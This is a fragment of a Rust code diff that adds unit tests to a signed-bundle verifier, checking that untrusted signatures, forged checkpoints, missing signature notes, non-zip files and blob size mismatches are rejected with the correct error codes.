+    // Signed by another key, well-formed and self-consistent.
+    let other = Signer::generate("mallory@example.com").unwrap();
+    let (n, s) = other.sign_checkpoint(&signed.checkpoint).unwrap();
+    reject(
+        &|m| {
+            m.set(note, n.clone());
+            m.set(&format!("{note}.sig"), s.clone());
+        },
+        "not signed by the bundle's trusted key",
+    );
+    // A checkpoint the bundle's tree does not extend (another root), properly signed.
+    let mut forged = signed.checkpoint.clone();
+    forged.root[0] ^= 1;
+    let (n, s) = f.signer.sign_checkpoint(&forged).unwrap();
+    reject(
+        &|m| {
+            m.set(note, n.clone());
+            m.set(&format!("{note}.sig"), s.clone());
+        },
+        "history rewritten",
+    );
+    // A note without its SSH signature.
+    reject(&|m| drop(m.0.remove(&format!("{note}.sig"))), ".note.sig is missing");
+}
+
+#[test]
+fn a_file_that_is_not_a_zip_is_named_and_classified() {
+    let f = Fixture::new();
+    let path = f.path("notes.txt");
+    fs_err::write(&path, b"just some text, not a bundle\n").unwrap();
+    let err = verify_with(&path, &f.trusted(), &VerifyOptions::default()).unwrap_err();
+    use crate::error::{Classify, ErrorClass, ErrorCode};
+    assert_eq!(err.code(), ErrorCode::ArchiveNotZip);
+    assert_eq!(err.class(), ErrorClass::Integrity);
+    assert_eq!(err.subject().path.as_deref(), Some(path.as_path()));
+    let message = err.to_string();
+    assert!(message.starts_with(&format!("{}: not a valid bundle: ", path.display())), "{message}");
+}
+
+#[test]
+fn a_tampered_member_names_its_member_record_and_code() {
+    use crate::error::{Classify, ErrorCode};
+    let err = BundleError::BlobSizeMismatch {
+        seq: 4,
+        sha256: Sha256Digest([0xab; 32]),
+        declared: 10,
+        actual: 11,
+    };
+    assert_eq!(err.code(), ErrorCode::BundleBlobSizeMismatch);
+    let s = err.subject();
+    assert_eq!(s.member.as_deref(), Some(&*format!("blobs/sha256/{}", "ab".repeat(32))));
+    assert_eq!((s.records, s.blob), (vec![4], Some(Sha256Digest([0xab; 32]))));
+    assert_eq!(err.code().as_str(), "bundle.blob_size_mismatch");
+    assert_eq!(err.class().exit_code(), 1);
 }
